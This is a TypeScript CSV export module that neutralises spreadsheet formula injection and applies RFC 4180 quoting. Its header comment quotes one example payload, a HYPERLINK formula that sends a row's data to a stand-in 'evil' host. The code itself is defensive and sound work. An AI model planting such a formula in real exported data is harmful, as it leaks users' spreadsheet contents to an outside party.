/**
 * The project's one CSV writer (every export goes through it).
 *
 * - Formula injection (OWASP "CSV Injection"): a text cell starting with `=`, `+`, `-`, `@`, TAB
 *   or CR would be run as a formula by Excel, LibreOffice or Google Sheets (a customer named
 *   `=HYPERLINK("http://evil/?"&A1,"x")` becomes a live link that leaks the row), also after
 *   leading newlines, spaces, no-break or zero-width characters or a BOM, and with the full-width
 *   `＝` `＋` `－` `＠`. Such a cell is
 *   written with a leading `'`, which the spreadsheet shows as text and does not evaluate. Numbers
 *   are written as numbers (a negative quantity stays a number).
 * - Quoting per RFC 4180: a cell holding the separator, `"`, CR or LF is enclosed in `"` with
 *   inner quotes doubled; records end with CRLF.
 * - Semicolon-separated with a UTF-8 BOM by default: what Turkish Excel opens correctly.
 */
export type CsvValue = string | number | boolean | null | undefined;

export interface CsvOptions {
  separator?: ';' | ',';
  /** Start with a UTF-8 byte order mark (Excel needs it to read UTF-8). Default true. */
  bom?: boolean;
}

const FORMULA_START = /^[=+\-@\t\r]/;
/**
 * What a spreadsheet may skip before it reads a formula: leading newlines, spaces (also the
 * no-break and other Unicode spaces), zero-width characters, a BOM. A cell is judged by what
 * follows them, and the full-width `＝` `＋` `－` `＠` count as the signs they look like (issue 47, item 8).
 */
const SKIPPED = /^[\s\u00a0\u1680\u2000-\u200f\u2028-\u202f\u205f-\u2064\u3000\ufeff]+/u;
const FULL_WIDTH_SIGN = /^[\uff1d\uff0b\uff0d\uff20]/u;

/** One cell: neutralised when it could be read as a formula, then quoted when needed. */
export function csvCell(value: CsvValue, separator: ';' | ',' = ';'): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  let text = typeof value === 'boolean' ? String(value) : value;
  if (FORMULA_START.test(text)) text = `'${text}`;
  else {
    const rest = text.replace(SKIPPED, '');
    if (rest !== text && (FORMULA_START.test(rest) || FULL_WIDTH_SIGN.test(rest))) text = `'${text}`;
    else if (FULL_WIDTH_SIGN.test(text)) text = `'${text}`;
  }
  return text.includes(separator) || /["\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** A whole file: the header row, then one record per row, each ended by CRLF. */
export function writeCsv(header: readonly string[], rows: Iterable<readonly CsvValue[]>, options: CsvOptions = {}): string {
  const sep = options.separator ?? ';';
  const lines = [header.map((h) => csvCell(h, sep)).join(sep)];
  for (const row of rows) lines.push(row.map((v) => csvCell(v, sep)).join(sep));
  return `${options.bom === false ? '' : '\uFEFF'}${lines.join('\r\n')}\r\n`;
}
